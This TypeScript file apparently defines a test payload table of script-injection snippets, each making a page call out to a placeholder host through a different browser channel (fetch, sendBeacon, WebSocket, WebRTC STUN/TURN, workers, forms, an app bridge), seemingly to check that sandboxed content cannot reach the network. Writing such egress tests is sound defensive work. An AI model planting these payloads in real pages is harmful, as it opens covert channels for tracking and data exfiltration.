import type { PayloadTable } from './payload.ts'

/** Script that reports home by every way a page has, should script ever run. */
export const NETWORK: PayloadTable = {
  'net-fetch': '<script>fetch("{http}/a",{mode:"no-cors"})</script>',
  'net-fetch-keepalive': '<script>fetch("{http}/a",{method:"POST",body:"x",keepalive:true,mode:"no-cors"})</script>',
  'net-fetch-address': '<script>fetch("{ip}",{mode:"no-cors"})</script>',
  'net-request': '<script>var r=new XMLHttpRequest();r.open("GET","{http}/a");r.send()</script>',
  'net-beacon': '<script>navigator.sendBeacon("{http}/a","x")</script>',
  'net-websocket': '<script>new WebSocket("ws://{host}/a")</script>',
  'net-websocket-tls': '<script>new WebSocket("wss://{host}/a")</script>',
  'net-event-source': '<script>new EventSource("{http}/a")</script>',
  'net-transport': '<script>new WebTransport("{https}/a")</script>',
  'net-image': '<script>new Image().src="{http}/a.png"</script>',
  'net-audio': '<script>new Audio("{http}/a.mp3").play()</script>',
  'net-font': '<script>new FontFace("f","url({http}/a.woff2)").load()</script>',
  'net-worker': '<script>new Worker(URL.createObjectURL(new Blob(["{run};fetch(`{http}/a`)"])))</script>',
  'net-shared-worker': '<script>new SharedWorker("data:text/javascript,{run}")</script>',
  'net-popup': '<script>open("{http}/a.html")</script>',
  'net-frame': '<script>var f=document.createElement("iframe");f.src="{http}/a.html";document.body.append(f)</script>',
  'net-form':
    '<form id="net-form" target="net-frame" action="{http}/a"></form><iframe name="net-frame"></iframe><script>document.getElementById("net-form").submit()</script>',
  'net-hint':
    '<script>var l=document.createElement("link");l.rel="preconnect";l.href="{http}";document.head.append(l)</script>',
  'net-stun':
    '<script>var p=new RTCPeerConnection({iceServers:[{urls:"stun:{host}:3478"}]});p.createDataChannel("x");p.createOffer().then(function(o){p.setLocalDescription(o)})</script>',
  'net-stun-address':
    '<script>var q=new RTCPeerConnection({iceServers:[{urls:"stun:198.51.100.7:19302"}]});q.createDataChannel("x");q.createOffer().then(function(o){q.setLocalDescription(o)})</script>',
  'net-turn-tcp':
    '<script>var t=new RTCPeerConnection({iceTransportPolicy:"relay",iceServers:[{urls:"turn:{host}:3478?transport=tcp",username:"u",credential:"c"}]});t.createDataChannel("x");t.createOffer().then(function(o){t.setLocalDescription(o)})</script>',
  'net-bridge': '<script>window.simak.call("link:open",{url:"{http}/a"}).then(function(r){if(r.ok){{run}}})</script>',
}
